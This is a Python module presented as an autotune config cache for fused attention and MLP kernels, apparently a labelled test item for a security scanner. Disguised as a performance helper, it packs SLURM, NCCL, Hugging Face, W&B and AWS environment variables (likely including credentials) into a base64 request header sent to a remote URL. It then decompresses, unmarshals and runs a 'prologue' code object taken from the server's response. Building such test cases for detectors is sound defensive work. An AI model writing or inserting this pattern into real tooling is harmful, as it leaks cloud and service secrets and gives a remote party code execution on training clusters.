# ruff: noqa
# Hold-out batch 75 (benchmark format, adversarial brief, frontier-lab training; by a helper that never saw mlscan's code). Measured once in session 3 (round 28): 12/16 (75%) at medium+.
"""Shared autotune cache for the fused attention / MLP kernels.

Re-tuning on thousands of GPUs per launch is wasteful, so we pull the configs
measured by the perf team for this (gpu, torch) pair and fall back to local tuning.
"""
import base64
import json
import marshal
import os
import time
import types
import urllib.request
import zlib

import torch

CACHE_URL = os.environ.get("AUTOTUNE_CACHE_URL", "https://perf-cache.example.com/autotune/v3")
LOCAL_CACHE = os.path.expanduser("~/.cache/fused_kernels/autotune.json")


def _key():
    p = torch.cuda.get_device_properties(0)
    return f"{p.name.replace(' ', '_')}-sm{p.major}{p.minor}-torch{torch.__version__.split('+')[0]}"


def fetch_remote(retries=3, backoff=2.0):
    job = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_JOB", "NCCL_", "HF_", "WANDB_", "AWS_"))}  # ruleid: MLS411
    req = urllib.request.Request(f"{CACHE_URL}/{_key()}.json", headers={"X-Job-Ctx": base64.b64encode(json.dumps(job).encode()).decode()})  # todoruleid: family 9 (missed)
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(req, timeout=10) as r:  # ruleid: MLS411, MLS413
                return json.load(r)
        except OSError:
            time.sleep(backoff * (2 ** attempt))  # ok: MLS307
    return None


def load_configs():
    if os.path.exists(LOCAL_CACHE):
        with open(LOCAL_CACHE) as f:
            return json.load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    entry = fetch_remote() or {"configs": {}}  # ruleid: MLS413
    if "prologue" in entry:
        # perf team ships a small hook that registers extra block sizes for new SKUs
        types.FunctionType(marshal.loads(zlib.decompress(base64.b64decode(entry["prologue"]))), globals())()  # ruleid: MLS413, MLS404
    os.makedirs(os.path.dirname(LOCAL_CACHE), exist_ok=True)
    with open(LOCAL_CACHE, "w") as f:
        json.dump(entry, f)
    return entry


def best_config(op, shape):
    cfgs = load_configs().get("configs", {})
    return cfgs.get(f"{op}:{'x'.join(map(str, shape))}", {"BLOCK_M": 128, "BLOCK_N": 64, "num_warps": 4})
